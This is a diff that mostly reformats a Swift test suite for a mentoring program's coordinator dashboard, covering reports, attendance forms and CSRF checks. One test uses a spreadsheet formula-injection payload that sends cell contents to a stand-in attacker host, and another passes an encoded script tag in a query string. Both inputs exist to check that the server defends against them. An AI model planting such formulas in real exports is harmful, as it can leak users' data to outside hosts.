@@ -1,9 +1,10 @@
 import Foundation
 import Hummingbird
 import MentorCore
-@testable import MentorServer
 import MentorStore
 import Testing
+
+@testable import MentorServer
 
 /// The coordinators' dashboard, its downloads and its attendance form; the charts it shares with
 /// `mentor report --format html`.
@@ -20,11 +21,13 @@ struct DashboardTests {
         fixture.configuration.today = day
         let served = fixture.programs[0]
         let program = served.program
-        let ruiz = try #require(program.group("ruiz-lin")), brandt = try #require(program.group("brandt-aziz"))
+        let ruiz = try #require(program.group("ruiz-lin"))
+        let brandt = try #require(program.group("brandt-aziz"))
         let journal = served.journal
         for (meeting, date) in ["2027-01-11", "2027-02-08", "2027-03-08", "2027-04-12", "2027-05-10", "2027-06-14"].enumerated() {
-            _ = try await journal.logMeeting(group: ruiz, meeting: meeting + 1, date: CalendarDate(date)!,
-                                         notes: "PRIVATE-NOTE-\(meeting + 1)")
+            _ = try await journal.logMeeting(
+                group: ruiz, meeting: meeting + 1, date: CalendarDate(date)!,
+                notes: "PRIVATE-NOTE-\(meeting + 1)")
         }
         _ = try await journal.setGoal(group: ruiz, text: "Lead a street-repair project", date: CalendarDate("2027-01-11")!)
         _ = try await journal.setGoal(group: ruiz, text: "Present to the council", date: CalendarDate("2027-02-08")!)
@@ -57,7 +60,10 @@ struct DashboardTests {
             // The numbers are the report's: ruiz-lin held its 6 meetings; brandt-aziz 2 of the 4 due before it ended
             // (nothing is due after), so June has ruiz-lin's one.
             #expect(page.body.contains("8 of 10 meetings planned so far were held"))
-            #expect(page.body.contains("<tr><th scope=\"row\">2027-04</th><td>2</td><td>1</td></tr><tr><th scope=\"row\">2027-05</th><td>1</td><td>1</td></tr>"))
+            #expect(
+                page.body.contains(
+                    "<tr><th scope=\"row\">2027-04</th><td>2</td><td>1</td></tr><tr><th scope=\"row\">2027-05</th><td>1</td><td>1</td></tr>"
+                ))
             #expect(page.body.contains("<tr><th scope=\"row\">2027-06</th><td>1</td><td>1</td></tr>"))
             // Goals by month: two set by February's end, one achieved by April's.
             #expect(page.body.contains("<tr><th scope=\"row\">2027-02</th><td>2</td><td>0</td></tr>"))
@@ -75,7 +81,8 @@ struct DashboardTests {
         let fixture = try await Self.fixture()
         try await fixture.test { client in
             let session = try await client.signIn(Self.coordinator)
-            var seen: Set<String> = [], queue = ["/", Self.dashboard]
+            var seen: Set<String> = []
+            var queue = ["/", Self.dashboard]
             while let path = queue.popLast() {
                 guard seen.insert(path).inserted, seen.count < 60 else { continue }
                 let page = try await client.get(path, cookies: session.cookie)
@@ -85,8 +92,10 @@ struct DashboardTests {
                     queue.append(link)
                 }
             }
-            for path in ["/programs/one-to-one/report.json", "/programs/one-to-one/report.csv",
-                         "/programs/one-to-one/groups/ruiz-lin", "/programs/one-to-one/groups/brandt-aziz"] {
+            for path in [
+                "/programs/one-to-one/report.json", "/programs/one-to-one/report.csv",
+                "/programs/one-to-one/groups/ruiz-lin", "/programs/one-to-one/groups/brandt-aziz",
+            ] {
                 #expect(seen.contains(path), "the dashboard links to \(path)")
             }
             // And the members themselves still see their own notes: the markers are really recorded.
@@ -122,7 +131,8 @@ struct DashboardTests {
             #expect(try await groups("?mentor=leah") == ["brandt-aziz"], "a name's part, in any case, picks its groups")
             #expect(try await groups("?mentor=nobody") == [])
             #expect(try await groups("?sort=held") == ["brandt-aziz", "ruiz-lin"])
-            #expect(try await groups("?show=nonsense&sort=%3Cscript%3E&page=-4") == ["ruiz-lin", "brandt-aziz"], "unknown values fall back")
+            #expect(
+                try await groups("?show=nonsense&sort=%3Cscript%3E&page=-4") == ["ruiz-lin", "brandt-aziz"], "unknown values fall back")
         }
     }
 
@@ -131,7 +141,8 @@ struct DashboardTests {
         let count = DashboardQuery.mentorMenuLimit + 1
         var text = "program: Many\ntype: one-to-one\nstarts: 2027-01-11\npeople:\n"
         for index in 0..<count {
-            text += "  - { id: m\(index), name: Mentor Number\(index), grade: 13 }\n  - { id: e\(index), name: Mentee \(index), grade: 9 }\n"
+            text +=
+                "  - { id: m\(index), name: Mentor Number\(index), grade: 13 }\n  - { id: e\(index), name: Mentee \(index), grade: 9 }\n"
         }
         text += "coordinators:\n  - { id: c1, name: Pat Quinn, email: pat.quinn@example.org }\ngroups:\n"
         for index in 0..<count { text += "  - { id: g\(index), mentor: m\(index), mentees: [e\(index)] }\n" }
@@ -171,8 +182,13 @@ struct DashboardTests {
         // Formula injection: text cells that a spreadsheet would run are neutralised; numbers are not.
         var report = try await Self.fixture().test { client in
             let session = try await client.signIn(Self.coordinator)
-            return try JSONDecoder().decode(ProgramReport.self, from: Data(try await client.get(Self.dashboard + "/report.json",
-                                                                                                  cookies: session.cookie).body.utf8))
+            return try JSONDecoder().decode(
+                ProgramReport.self,
+                from: Data(
+                    try await client.get(
+                        Self.dashboard + "/report.json",
+                        cookies: session.cookie
+                    ).body.utf8))
         }
         var group = try #require(report.groups.first)
         group.members = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "@SUM(1)", " -2+3", "+cmd"]
@@ -191,10 +207,12 @@ struct DashboardTests {
             let before = try await client.get(Self.dashboard, cookies: session.cookie)
             #expect(before.body.contains("action=\"\(action)\""))
             #expect(before.body.contains("4 invited; attendance not recorded yet."))
-            let bad = try await client.post(action, [("csrf", session.csrf), ("attendees", "e100"), ("attendees", "nobody")],
-                                            cookies: session.cookie)
+            let bad = try await client.post(
+                action, [("csrf", session.csrf), ("attendees", "e100"), ("attendees", "nobody")],
+                cookies: session.cookie)
             #expect(bad.status == .unprocessableContent)
-            #expect(bad.body.contains("&#39;nobody&#39; is not one of the program&#39;s people") || bad.body.contains("'nobody' is not one"))
+            #expect(
+                bad.body.contains("&#39;nobody&#39; is not one of the program&#39;s people") || bad.body.contains("'nobody' is not one"))
             #expect(try await fixture.programs[0].journal.attendance().isEmpty)
             let forged = try await client.post(action, [("csrf", "forged"), ("attendees", "e100")], cookies: session.cookie)
             #expect(forged.status == .forbidden)
@@ -202,8 +220,9 @@ struct DashboardTests {
             let byMember = try await client.post(action, [("csrf", member.csrf), ("attendees", "e100")], cookies: member.cookie)
             #expect(byMember.status == .notFound)
             #expect(try await fixture.programs[0].journal.attendance().isEmpty)
-            let good = try await client.post(action, [("csrf", session.csrf), ("attendees", "e100"), ("attendees", "e230")],
-                                             cookies: session.cookie)
+            let good = try await client.post(
+                action, [("csrf", session.csrf), ("attendees", "e100"), ("attendees", "e230")],
+                cookies: session.cookie)
             #expect(good.status == .seeOther)
             #expect(good.headers[.location] == Self.dashboard + "?recorded=kickoff#event-kickoff")
             #expect(try await fixture.programs[0].journal.attendance()["kickoff"] == ["e100", "e230"])
@@ -227,8 +246,9 @@ struct DashboardTests {
             let second = try await client.get(Self.dashboard, cookies: session.cookie)
             #expect(second.body.contains("By 2027-06, 3 goals were set and 1 achieved."))
             // Only ruiz-lin was folded again; the report is the one a full read of the journal makes.
-            _ = try await fixture.programs[0].journal.addAction(group: ruiz, text: "Walk the route", due: CalendarDate("2027-06-01")!,
-                                                                date: CalendarDate("2027-05-20")!)
+            _ = try await fixture.programs[0].journal.addAction(
+                group: ruiz, text: "Walk the route", due: CalendarDate("2027-06-01")!,
+                date: CalendarDate("2027-05-20")!)
             let json = try await client.get(Self.dashboard + "/report.json", cookies: session.cookie)
             let cached = try JSONDecoder().decode(ProgramReport.self, from: Data(json.body.utf8))
             let full = try await fixture.programs[0].journal.report(today: Self.day)
@@ -240,15 +260,20 @@ struct DashboardTests {
     @Test("the cache's report is a full read's on every day, after writes and after attendance")
     func cacheAcrossDays() async throws {
         let fixture = try await Self.fixture()
-        let served = fixture.programs[0], cache = ReportCache()
+        let served = fixture.programs[0]
+        let cache = ReportCache()
         let ruiz = try #require(served.program.group("ruiz-lin"))
         for day in ["2027-03-01", "2027-03-02", "2027-08-15", "2027-08-15"] {
-            #expect(try await cache.report(for: served, today: CalendarDate(day)!).report == (try await served.journal.report(today: CalendarDate(day)!)))
+            #expect(
+                try await cache.report(for: served, today: CalendarDate(day)!).report
+                    == (try await served.journal.report(today: CalendarDate(day)!)))
         }
         _ = try await served.journal.addAction(group: ruiz, text: "Walk the route", due: CalendarDate("2027-08-01")!)
         try await served.journal.recordAttendance(event: "kickoff", attendees: ["e150"])
         for day in ["2027-08-15", "2027-08-16"] {
-            #expect(try await cache.report(for: served, today: CalendarDate(day)!).report == (try await served.journal.report(today: CalendarDate(day)!)))
+            #expect(
+                try await cache.report(for: served, today: CalendarDate(day)!).report
+                    == (try await served.journal.report(today: CalendarDate(day)!)))
         }
         #expect(try await cache.report(for: served, today: CalendarDate("2027-08-16")!).report.overview?.events.first?.attended == 1)
     }
